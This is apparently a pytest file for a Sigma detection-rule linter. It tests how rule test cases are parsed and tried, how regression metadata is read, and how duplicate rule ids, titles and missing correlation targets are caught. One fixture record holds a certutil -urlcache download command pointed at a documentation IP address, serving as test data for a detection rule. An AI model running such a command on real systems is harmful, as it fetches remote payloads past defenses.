"""Test cases read with their places and tried through the whole path; regression tests; many rules together."""

from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amagasa.detect.lint.cases import case_file, cases_within, failed
from amagasa.detect.lint.document import lint
from amagasa.detect.lint.finding import Place
from amagasa.detect.lint.regression import LogTest, log_tests
from amagasa.detect.lint.review import review
from amagasa.detect.lint.trial import Trial
from amagasa.detect.lint.whole import check_together
from amagasa.detect.sigma.compile import compile_rules
from amagasa.event.record import Format
from tests.detect.lint.rules import GOOD, changed

NOW = datetime(2026, 11, 23, tzinfo=UTC)
CASES = """\
cases:
  - name: fetched
    format: windows
    record:
      EventID: 1
      Channel: Microsoft-Windows-Sysmon/Operational
      Image: 'C:\\Windows\\System32\\certutil.exe'
      CommandLine: certutil -urlcache -f http://198.51.100.1/a
    matches: true
  - name: as text
    record: '{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\\\certutil.exe"}'
    matches: false
"""


@pytest.fixture(scope="module")
def trial() -> Trial:
    (rule,), _ = compile_rules([("", GOOD)])
    return Trial(rule)


def test_cases_are_read_with_format_record_and_place() -> None:
    found = case_file(CASES)
    assert found is not None
    assert [(one.name, one.format, one.n_matches, one.place) for one in found.cases] == [
        ("fetched", Format.WINDOWS, None, Place(2, 11, 7)),
        ("as text", None, 0, Place(10, 11, 7)),
    ]
    assert found.findings == ()


def test_cases_tried_come_out_as_they_say(trial: Trial) -> None:
    found = case_file(CASES)
    assert found is not None
    for case in found.cases:
        tried = trial.on_record(case.record, case.format, now=NOW)
        assert (tried.n_read, tried.why) == (1, "")
        assert failed(case, tried.n_found, tried.n_read) is None


def test_case_that_does_not_come_out_is_a_finding_at_its_name(trial: Trial) -> None:
    found = case_file(CASES.replace("matches: true", "matches: false"))
    assert found is not None
    finding = failed(found.cases[0], trial.on_record(found.cases[0].record, None, now=NOW).n_found, 1)
    assert finding is not None
    assert (finding.code, finding.place) == ("case-failed", Place(2, 11, 7))
    assert "expects no match; got 1 of 1 records" in finding.what


def test_case_of_several_records_counts_them(trial: Trial) -> None:
    record = (
        "{EventID: 1, Channel: Microsoft-Windows-Sysmon/Operational, Image: '\\certutil.exe', CommandLine: urlcache}"
    )
    found = case_file(f"cases: [{{record: [{record}, {record}, {{EventID: 1}}], matches: 2}}]")
    assert found is not None
    tried = trial.on_record(found.cases[0].record, Format.WINDOWS, now=NOW)
    assert (tried.n_read, tried.n_found, found.cases[0].n_matches) == (3, 2, 2)


def test_record_of_no_known_format_is_said(trial: Trial) -> None:
    assert "format" in trial.on_record(b"???", None, now=NOW).why
    assert trial.on_record(b"no json", Format.WINDOWS, now=NOW).why


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("cases: 1", "no list"),
        ("cases: [1]", "no mapping"),
        ("cases: [{name: x, matches: true}]", "no record"),
        ("cases: [{record: x}]", "whether it matches"),
        ("cases: [{record: x, matches: perhaps}]", "perhaps"),
        ("cases: [{record: x, matches: true, format: eventlog}]", "eventlog"),
        ("cases: [{record: x, matches: true, recrd: y}]", "recrd"),
        ("cases: [", "not YAML"),
    ],
)
def test_case_that_cannot_be_read_is_a_finding(text: str, what: str) -> None:
    found = case_file(text)
    assert found is not None
    assert [one.code for one in found.findings] == ["case-broken"]
    assert what in found.findings[0].what


def test_file_without_cases_is_no_file_of_cases() -> None:
    assert case_file(GOOD) is None
    assert cases_within(GOOD, 0) is None


def test_tests_within_a_rule_are_its_cases() -> None:
    text = GOOD + "---\n" + GOOD + "tests:\n  - {record: x, matches: false}\n"
    found = cases_within(text, 1)
    assert found is not None
    assert [one.record for one in found.cases] == [b"x"]


@given(st.text(max_size=80))
def test_any_text_is_read_as_cases_or_refused(text: str) -> None:
    found = case_file("cases:\n- " + text)
    assert found is None or all(one.code == "case-broken" for one in found.findings)


def test_regression_tests_are_read_and_what_is_none_left_out() -> None:
    text = (
        "id: x\nregression_tests_info:\n"
        "    - {name: a, type: evtx, match_count: 2, path: regression_data/a.evtx}\n"
        "    - {name: b, type: evtx, path: b.evtx}\n    - {name: c}\n    - d\n"
    )
    assert log_tests(text) == (
        LogTest(name="a", path="regression_data/a.evtx", n_matches=2),
        LogTest(name="b", path="b.evtx", n_matches=None),
    )
    assert log_tests("a: [") == log_tests("a") == ()


def codes(*texts: str) -> list[tuple[str, str]]:
    documents = [(f"{n}.yml", one) for n, text in enumerate(texts) for one in lint(text)]
    return [(one.path, one.code) for one in check_together(documents)]


def test_rules_of_the_same_id_or_title_are_said_at_the_later_one() -> None:
    assert codes(GOOD, GOOD) == [("1.yml", "duplicate-id"), ("1.yml", "duplicate-title")]
    assert codes(GOOD, changed("0001", "0002").replace("Certutil fetches", "Other")) == []
    assert codes(GOOD, changed("7f0b6f3a-54a2-4bfb-9d0c-2f9a1a1c0001", "7F0B6F3A54A24BFB9D0C2F9A1A1C0001")) == [
        ("1.yml", "duplicate-id"),
        ("1.yml", "duplicate-title"),
    ]


def test_correlation_of_a_rule_that_is_not_there_is_said() -> None:
    correlation = (
        "title: c\nid: 7f0b6f3a-54a2-4bfb-9d0c-2f9a1a1c0009\ncorrelation:\n  type: event_count\n  rules: [{}]\n"
    )
    assert codes(GOOD, correlation.format("7f0b6f3a-54a2-4bfb-9d0c-2f9a1a1c0001")) == []
    assert codes(GOOD, correlation.format("other")) == [("1.yml", "unknown-rule")]


def test_correlation_is_not_judged_by_what_it_asks_of_records() -> None:
    text = (
        "title: c\nid: 7f0b6f3a-54a2-4bfb-9d0c-2f9a1a1c0009\ncorrelation:\n  type: event_count\n  rules: [a]\n"
        "  timespan: 5m\n  condition: {gte: 3}\n"
    )
    (found,) = review(text)
    assert (found.rule, found.cost, found.feeds) == (None, None, "")
